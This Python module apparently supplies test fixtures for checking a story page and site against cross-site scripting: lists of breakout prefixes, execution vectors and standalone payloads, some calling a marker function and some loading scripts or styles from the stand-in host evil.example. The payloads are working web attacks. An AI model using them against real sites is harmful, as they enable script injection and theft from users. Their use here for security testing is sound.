"""Texts that try to run in a browser: a few ways out of where a text may stand, times many ways to run.

Each calls `ran()`, which a test defines before it opens a page, or asks an address of `evil.example`. For the story page and the site alike.
"""

from __future__ import annotations

from typing import Final

# Out of: an element's text, an attribute in either quotes or none, a title, a style sheet, a script, a comment, a text area, an SVG, a template.
WAYS_OUT: Final = ("", '">', "'>", "</title>", "</style>", "</script>", "-->", "</textarea>", "</svg>", "]]>", "{{'")

WAYS_TO_RUN: Final = (
    "<script>ran()</script>",
    "<ScRiPt >ran()</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=ran()>",
    "<img/src=x/onerror=ran()//",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:ran()><text y=9>x</text></a></svg>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=javascript:parent.ran()></iframe>",
    "<details open ontoggle=ran()>",
    "<input autofocus onfocus=ran()>",
    "<body onload=ran()>",
    "<video><source onerror=ran()></video>",
    "<math><mtext><img src=x onerror=ran()></mtext></math>",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
)

ALONE: Final = (
    "javascript:ran()",
    "JaVaScRiPt:ran()//http://a.example/",
    "java\tscript:ran()",
    "\x01javascript:ran()",
    "data:text/html,<script>parent.ran()</script>",
    "vbscript:ran()",
    "https://a.example/\" onmouseover=\"ran()",
    "https://a.example/' onfocus='ran()' autofocus='",
    '" autofocus onfocus="ran()',
    "' autofocus onfocus='ran()",
    " autofocus onfocus=ran() ",
    '" style="background:url(//evil.example/x)',
    '" onmouseover=ran() x="',
    "{{constructor.constructor('ran()')()}}",
    "{% import os %}{{ 7*7 }}",
    "${ran()}",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;",
    "%3Cscript%3Eran()%3C/script%3E",
    "\u003cscript\u003eran()\u003c/script\u003e",
    "＜script＞ran()＜/script＞",
    "<scr\x00ipt>ran()</scr\x00ipt>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<<script>ran();//<</script>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=javascript:ran()><button autofocus>x</form>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<template><script>ran()</script></template><slot>",
    "<a href=javascript:ran() autofocus>x</a>",
    "[x](javascript:ran())",
    "![x](//evil.example/x.png)",
    "`<script>ran()</script>`",
    "\u202e<script>ran()</script>\u202c",
    "\ud83d\ude00<img src=x onerror=ran()>".encode("utf-16", "surrogatepass").decode("utf-16"),
    "url(javascript:ran())",
    "expression(ran())",
    "}</style><script>ran()</script>",
    "\\u003cimg src=x onerror=ran()\\u003e",
)

PAYLOADS: Final = (*(out + run for out in WAYS_OUT for run in WAYS_TO_RUN), *ALONE)
